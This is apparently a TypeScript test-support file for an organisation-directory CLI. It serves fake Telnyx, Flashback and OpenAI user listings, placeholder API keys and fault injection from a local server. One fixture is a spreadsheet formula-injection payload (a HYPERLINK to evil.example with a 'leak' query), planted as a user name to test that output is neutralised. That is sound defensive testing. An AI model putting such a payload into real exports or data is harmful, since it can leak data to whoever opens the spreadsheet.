/**
 * The CLI tests' vendors: `@orgdir/fake-vendors` serving a small, hand-picked organisation per
 * vendor (one vendor per path prefix), with tiny pages so every listing pages.
 */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Vendor } from '@orgdir/client';
import { type FakeUser, type FaultPlan, startFakeVendors as startFake } from '@orgdir/fake-vendors';
import { afterAll, afterEach, beforeAll } from 'vitest';

/** The key the tests send; asserted never to appear in orgdir's output. */
export const FAKE_KEYS = {
  telnyx: 'KEY_telnyx_s3cr3t_0123456789',
  flashback: 'KEY_flashback_s3cr3t_0123456789',
  openai: 'sk-admin-s3cr3t-0123456789',
} as const;

/** The environment that gives orgdir every fake key. */
export const FAKE_ENV = {
  TELNYX_API_KEY: FAKE_KEYS.telnyx,
  FLASHBACK_API_KEY: FAKE_KEYS.flashback,
  OPENAI_ADMIN_KEY: FAKE_KEYS.openai,
};

/** A cell that a spreadsheet would run as a formula if orgdir did not neutralise it. */
export const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak","click me")';

/** The Telnyx organisation, as the list (with `include_groups`) and the JSON report answer it. */
export const TELNYX_USERS = [
  {
    id: 't-1',
    record_type: 'organization_sub_user',
    email: 'alice@example.com',
    user_status: 'enabled',
    organization_user_bypasses_sso: false,
    created_at: '2024-01-02T03:04:05.000Z',
    last_sign_in_at: '2024-02-03T04:05:06.000Z',
    groups: [
      { id: 'tg-1', name: 'Engineering' },
      { id: 'tg-2', name: 'Sales' },
    ],
  },
  {
    id: 't-2',
    record_type: 'organization_owner',
    email: 'owner@example.com',
    user_status: 'enabled',
    organization_user_bypasses_sso: false,
    created_at: '2023-01-01T00:00:00.000Z',
    last_sign_in_at: null,
    groups: [],
  },
  {
    id: 't-3',
    record_type: 'organization_sub_user',
    email: 'bob@example.com',
    user_status: 'disabled',
    organization_user_bypasses_sso: true,
    created_at: '2024-05-06T07:08:09.000Z',
    last_sign_in_at: '2024-06-07T08:09:10.000Z',
    groups: [{ id: 'tg-1', name: 'Engineering' }],
  },
];

/** The Flashback organisation. */
export const FLASHBACK_USERS = [
  {
    id: 'f-1',
    email: 'eve@example.com',
    name: FORMULA_NAME,
    lastName: '',
    orgId: 'org-1',
    orgRole: 0,
    validated: true,
    deletedAt: null,
    orgRoleDescription: 'USER',
    orgRoles: [0],
  },
  {
    id: 'f-2',
    email: 'john.doe@example.com',
    name: 'John',
    lastName: 'Doe',
    orgId: 'org-1',
    orgRole: 255,
    validated: true,
    deletedAt: null,
    orgRoleDescription: 'OWNER',
    orgRoles: [0, 1, 2, 254, 255],
  },
  {
    id: 'f-3',
    email: 'gone@example.com',
    name: 'Gone',
    lastName: 'User',
    orgId: 'org-1',
    orgRole: 2,
    validated: true,
    deletedAt: '2024-03-03T00:00:00.000Z',
    orgRoleDescription: 'WORKSPACES',
    orgRoles: [0, 2],
  },
  // No email: the client cannot map it, and orgdir must say so rather than drop it silently.
  { id: 'f-4', name: 'No', lastName: 'Email', orgRole: 0, validated: true, deletedAt: null },
];

/** The OpenAI organisation's users. */
export const OPENAI_USERS = [
  {
    object: 'organization.user',
    id: 'user-1',
    name: 'Doe, Jane',
    email: 'jane@example.com',
    role: 'owner',
    added_at: 1711471533,
  },
  {
    object: 'organization.user',
    id: 'user-2',
    name: '+1 "quoted"',
    email: 'plus@example.com',
    role: 'reader',
    added_at: 1711472599,
  },
];

/** The OpenAI organisation's groups. */
export const OPENAI_GROUPS = [
  { id: 'group-1', name: 'Support Team', created_at: 1711471533, is_scim_managed: false },
  { id: 'group-2', name: 'Sales', created_at: 1711472599, is_scim_managed: true },
];

/** Members of each OpenAI group. */
const OPENAI_MEMBERS: Record<string, string[]> = { 'group-1': ['user-1'], 'group-2': ['user-1', 'user-2'] };

/** How a vendor should answer: normally, or with an error status for every request. */
export type Behaviour = 'ok' | { status: number; echoAuthorization?: boolean };

/** One request the fake received. */
export interface Recorded {
  vendor: Vendor;
  path: string;
  query: URLSearchParams;
  authorization: string | undefined;
  accept: string | undefined;
}

/** A local HTTP server speaking the three vendors' APIs, one vendor per path prefix. */
export interface FakeVendors {
  baseUrls: Record<Vendor, string>;
  /** `--base-url-*` flags for every vendor. */
  flags: string[];
  readonly requests: Recorded[];
  behave(vendor: Vendor, behaviour: Behaviour): void;
  reset(): void;
  close(): Promise<void>;
}

/** The fixtures above as one store: each user exists at its own vendor, served as it is. */
function store(): FakeUser[] {
  const groupNames = (id: string) => OPENAI_GROUPS.filter((g) => OPENAI_MEMBERS[g.id]?.includes(id)).map((g) => g.name);
  return [
    ...TELNYX_USERS.map((u) => ({
      id: u.id,
      email: u.email,
      name: u.email,
      groups: u.groups.map((g) => g.name),
      vendors: ['telnyx'] as const,
      records: { telnyx: u },
    })),
    ...FLASHBACK_USERS.map((u) => ({
      id: u.id,
      email: u.email ?? '',
      name: u.name,
      groups: [],
      vendors: ['flashback'] as const,
      records: { flashback: u },
    })),
    ...OPENAI_USERS.map((u) => ({
      id: u.id,
      email: u.email,
      name: u.name,
      groups: groupNames(u.id),
      vendors: ['openai'] as const,
      records: { openai: u },
    })),
  ];
}

/** Starts the fake vendors on a free loopback port; `keys` replaces the bearer tokens they accept. */
export async function startFakeVendors(options: { keys?: Partial<Record<Vendor, string>> } = {}): Promise<FakeVendors> {
  const behaviours = new Map<Vendor, Behaviour>();
  const plan: FaultPlan = ({ endpoint }) => {
    const behaviour = behaviours.get(endpoint.split('.')[0] as Vendor) ?? 'ok';
    // A careless server may echo the credentials back; orgdir must still never print them.
    return behaviour === 'ok' ? undefined : { kind: 'status', ...behaviour };
  };
  const fake = await startFake({
    users: store(),
    groups: OPENAI_GROUPS.map(({ id, name, ...fields }) => ({ id, name, fields })),
    apiKey: { ...FAKE_KEYS, ...options.keys },
    prefixes: { telnyx: '/telnyx', flashback: '/flashback', openai: '/openai' },
    // Tiny pages, so that every listing takes more than one request.
    paging: { telnyx: { max: 2 }, openai: { max: 1, cursor: 'id', groupMembers: 'members' } },
    requestIds: true,
    plan,
  });
  const baseUrls = {
    telnyx: fake.baseUrl('telnyx'),
    flashback: fake.baseUrl('flashback'),
    openai: fake.baseUrl('openai'),
  };
  return {
    baseUrls,
    flags: [
      '--base-url-telnyx',
      baseUrls.telnyx,
      '--base-url-flashback',
      baseUrls.flashback,
      '--base-url-openai',
      baseUrls.openai,
    ],
    get requests() {
      return fake.requests
        .filter((r) => r.vendor !== undefined)
        .map((r) => ({
          vendor: r.vendor as Vendor,
          path: r.path,
          query: r.query,
          authorization: r.headers.authorization,
          accept: r.headers.accept,
        }));
    },
    behave: (vendor, behaviour) => behaviours.set(vendor, behaviour),
    reset: () => {
      behaviours.clear();
      fake.clearRequests();
    },
    close: () => fake.close(),
  };
}

/** A test file's fake vendors and temporary directory, set before its first test. */
export interface FakeVendorsSetup {
  fake: FakeVendors;
  dir: string;
}

/**
 * Starts the fake vendors and a temporary directory (named from `prefix`) before a test file's
 * tests, undoes each test's behaviours and requests after it, and closes and removes both at the end.
 */
export function useFakeVendors(prefix: string): FakeVendorsSetup {
  const setup = {} as FakeVendorsSetup;
  beforeAll(async () => {
    setup.fake = await startFakeVendors();
    setup.dir = await mkdtemp(join(tmpdir(), prefix));
  });
  afterAll(async () => {
    await setup.fake.close();
    await rm(setup.dir, { recursive: true, force: true });
  });
  afterEach(() => setup.fake.reset());
  return setup;
}
